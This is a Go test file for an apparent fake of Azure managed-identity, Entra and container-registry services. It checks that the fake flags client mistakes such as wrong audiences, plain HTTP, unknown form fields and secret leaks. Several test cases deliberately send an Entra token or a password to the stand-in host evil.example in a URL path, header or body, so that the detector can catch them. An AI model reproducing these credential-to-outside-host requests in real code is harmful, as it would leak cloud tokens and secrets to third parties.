package azuretest_test

import (
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/pullthrough/pullthrough/auth/azuretest"
)

// imds requests a token as a correct client does.
func imds(t *testing.T, az *azuretest.Azure, path string) string {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, "http://169.254.169.254"+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Metadata", "true")
	return field(t, read(t, az.ManagedIdentityClient(), req), "access_token")
}

func read(t *testing.T, c *http.Client, req *http.Request) string {
	t.Helper()
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

func field(t *testing.T, text, name string) string {
	t.Helper()
	var fields map[string]any
	if err := json.Unmarshal([]byte(text), &fields); err != nil {
		t.Fatalf("%v in %q", err, text)
	}
	s, _ := fields[name].(string)
	return s
}

// wrong is a client that can make one mistake.
type wrong struct {
	t  *testing.T
	az *azuretest.Azure
	id *azuretest.Identity
	r  *azuretest.Registry
}

const tokenPath = "/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://containerregistry.azure.net&msi_res_id="

func (w wrong) entra() string { return imds(w.t, w.az, tokenPath+url.QueryEscape(w.id.ResourceID)) }

func (w wrong) send(method, address, authorization string, form url.Values) string {
	w.t.Helper()
	req, err := http.NewRequest(method, address, strings.NewReader(form.Encode()))
	if err != nil {
		w.t.Fatal(err)
	}
	if form != nil {
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	if authorization != "" {
		req.Header.Set("Authorization", authorization)
	}
	c := w.az.Direct()
	c.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	return read(w.t, c, req)
}

func (w wrong) exchange(change func(url.Values)) string {
	w.t.Helper()
	form := url.Values{"grant_type": {"access_token"}, "service": {w.r.LoginServer()}, "tenant": {w.az.TenantID()}, "access_token": {w.entra()}}
	change(form)
	return w.send(http.MethodPost, "https://"+w.r.LoginServer()+"/oauth2/exchange", "", form)
}

func (w wrong) token(change func(url.Values)) string {
	w.t.Helper()
	refresh := field(w.t, w.exchange(func(url.Values) {}), "refresh_token")
	form := url.Values{"grant_type": {"refresh_token"}, "service": {w.r.LoginServer()}, "scope": {"repository:app:pull"}, "refresh_token": {refresh}}
	change(form)
	return w.send(http.MethodPost, "https://"+w.r.LoginServer()+"/oauth2/token", "", form)
}

// TestComplaints: each fake complains of each mistake, and of nothing else.
func TestComplaints(t *testing.T) {
	none := func(url.Values) {}
	set := func(k, v string) func(url.Values) { return func(f url.Values) { f.Set(k, v) } }
	for name, c := range map[string]struct {
		do   func(wrong)
		want string // empty for no complaint
	}{
		"right":                   {func(w wrong) { w.token(none) }, ""},
		"IMDS without its header": {func(w wrong) { w.send("GET", "http://169.254.169.254"+tokenPath, "", nil) }, "Metadata"},
		"IMDS path":               {func(w wrong) { imds(w.t, w.az, "/metadata/instance?resource=https://vault.azure.net") }, "IMDS was asked"},
		"audience": {func(w wrong) {
			imds(w.t, w.az, "/metadata/identity/oauth2/token?api-version=1&resource=https://management.azure.com")
		}, "audience"},
		"service":              {func(w wrong) { w.exchange(set("service", "other.azurecr.io")) }, "service"},
		"grant":                {func(w wrong) { w.exchange(set("grant_type", "password")) }, "grant_type"},
		"unknown field":        {func(w wrong) { w.exchange(set("scope", "x")) }, "fields"},
		"tenant":               {func(w wrong) { w.exchange(set("tenant", "another")) }, "tenant"},
		"GET of the exchange":  {func(w wrong) { w.send("GET", "https://"+w.r.LoginServer()+"/oauth2/exchange", "", nil) }, "POST of a form"},
		"scope":                {func(w wrong) { w.token(set("scope", "repository:app:pull,push")) }, "no pull needs"},
		"service of a token":   {func(w wrong) { w.token(set("service", "x")) }, "service"},
		"Entra token at /v2/":  {func(w wrong) { w.send("GET", "https://"+w.r.LoginServer()+"/v2/", "Bearer "+w.entra(), nil) }, "a entra token was sent"},
		"Entra token to other": {func(w wrong) { w.send("GET", "https://evil.example/"+w.entra(), "", nil) }, "evil.example"},
		"plain http":           {func(w wrong) { w.send("GET", "http://"+w.r.LoginServer()+"/v2/", "", nil) }, "without TLS"},
		"data with a credential": {func(w wrong) {
			w.send("GET", "https://"+w.r.DataServer()+"/", "Bearer x", nil)
		}, "Authorization"},
		"a registry's token at a vault": {func(w wrong) {
			w.send("GET", "https://v.vault.azure.net/secrets/x?api-version=7", "Bearer "+w.entra(), nil)
		}, "audience"},
		"Entra grant":    {func(w wrong) { w.send("POST", entraURL(w)+"/oauth2/v2.0/token", "", url.Values{"grant_type": {"x"}}) }, "Entra was asked for the grant"},
		"Entra path":     {func(w wrong) { w.send("GET", entraURL(w)+"/x", "", nil) }, "Entra was asked GET"},
		"App Service":    {func(w wrong) { w.send("GET", w.appService(), "", nil) }, "App Service"},
		"not a CONNECT":  {func(w wrong) { w.plainProxy() }, "CONNECT"},
		"another secret": {func(w wrong) { w.send("GET", "https://evil.example/", "Basic cHVsbGVyOnZlcnktc2VjcmV0", nil) }, "a password was sent"},
	} {
		az := azuretest.New(nil)
		w := wrong{t, az, az.NewIdentity("promote"), az.NewRegistry("dev")}
		w.r.AddToken("puller", "very-secret", "app")
		az.NewVault("v")
		az.Handle("evil.example", http.NotFoundHandler())
		c.do(w)
		if got := strings.Join(az.Complaints(), "; "); (c.want == "") != (got == "") || !strings.Contains(got, c.want) {
			t.Errorf("%s: complaints %q, want %q", name, got, c.want)
		}
		az.Close()
	}
}

func entraURL(w wrong) string { return "https://login.microsoftonline.com/" + w.az.TenantID() }

func (w wrong) appService() string {
	env, err := w.az.AppService()
	if err != nil {
		w.t.Fatal(err)
	}
	u, err := url.Parse(env["IDENTITY_ENDPOINT"])
	if err != nil {
		w.t.Fatal(err)
	}
	u.Host = "appservice.local"
	return u.String()
}

func (w wrong) plainProxy() {
	proxy, err := w.az.Proxy()
	if err != nil {
		w.t.Fatal(err)
	}
	resp, err := http.Get(proxy)
	if err != nil {
		w.t.Fatal(err)
	}
	_ = resp.Body.Close()
}

// Secrets are found in every part of a request.
func TestSecretsAreFoundWhereverTheyAre(t *testing.T) {
	const secret = "pa55/word+="
	for name, send := range map[string]func(*http.Request){
		"query":  func(r *http.Request) { r.URL.RawQuery = url.Values{"q": {"x" + secret}}.Encode() },
		"path":   func(r *http.Request) { r.URL.Path = "/x/" + secret; r.URL.RawPath = "/x/" + secret },
		"header": func(r *http.Request) { r.Header.Set("X-Anything", "a "+secret) },
		"basic":  func(r *http.Request) { r.SetBasicAuth("u", secret) },
		"form": func(r *http.Request) {
			body(r, "application/x-www-form-urlencoded", url.Values{"a": {secret}}.Encode())
		},
		"JSON":        func(r *http.Request) { body(r, "application/json", `{"a":"`+secret+`"}`) },
		"no type":     func(r *http.Request) { body(r, "", secret) },
		"nothing":     nil,
		"other words": func(r *http.Request) { body(r, "application/json", "{}") },
	} {
		az := azuretest.New(nil)
		az.NewRegistry("dev").AddToken("puller", secret)
		got := ""
		az.Handle("evil.example", http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
			data, _ := io.ReadAll(r.Body)
			got = string(data)
		}))
		req, err := http.NewRequest(http.MethodPost, "https://evil.example/", http.NoBody)
		if err != nil {
			t.Fatal(err)
		}
		if send != nil {
			send(req)
		}
		read(t, az.Direct(), req)
		if found := strings.Contains(strings.Join(az.Complaints(), ""), "a password was sent"); found != (send != nil && name != "other words") {
			t.Errorf("%s: %q", name, az.Complaints())
		}
		if name == "JSON" && got != `{"a":"`+secret+`"}` {
			t.Errorf("the handler finds the body %q", got)
		}
		az.Close()
	}
}

func body(r *http.Request, contentType, text string) {
	r.Header.Set("Content-Type", contentType)
	r.Body = io.NopCloser(strings.NewReader(text))
}

// TestRefusals: requests that Azure refuses though the client made no mistake.
func TestRefusals(t *testing.T) {
	az := azuretest.New(t)
	w := wrong{t, az, az.NewIdentity("promote"), az.NewRegistry("dev")}
	foreign := az.NewIdentityIn("another-tenant", "foreign")
	for name, text := range map[string]string{
		"garbage":         w.exchange(func(f url.Values) { f.Set("access_token", "garbage") }),
		"another tenant":  wrong{t, az, foreign, w.r}.exchange(func(f url.Values) { f.Del("tenant") }),
		"no refresh":      w.token(func(f url.Values) { f.Set("refresh_token", "x") }),
		"no such user":    w.send("GET", "https://dev.azurecr.io/v2/", "Basic eDp5", nil),
		"without a grant": w.send("GET", "https://dev.azurecr.io/v2/app/manifests/v1", "Bearer "+field(t, w.token(func(url.Values) {}), "access_token"), nil),
	} {
		if !strings.Contains(text, "UNAUTHORIZED") {
			t.Errorf("%s: %s", name, text)
		}
	}
	w.id.Detach()
	if token := imds(t, az, tokenPath+url.QueryEscape(w.id.ResourceID)); token != "" {
		t.Error("a detached identity has a token")
	}
	w.id.Attach()
	if w.entra() == "" {
		t.Error("an attached one has none")
	}
	w.r.SetFirewall("203.0.113.7")
	if text := w.exchange(func(url.Values) {}); !strings.Contains(text, "203.0.113.7") {
		t.Error(text)
	}
	if text := w.send("GET", "https://"+w.r.DataServer()+"/x//docker/registry/v2/blobs/y/data?sig=z", "", nil); !strings.Contains(text, "AuthenticationFailed") {
		t.Error(text)
	}
}
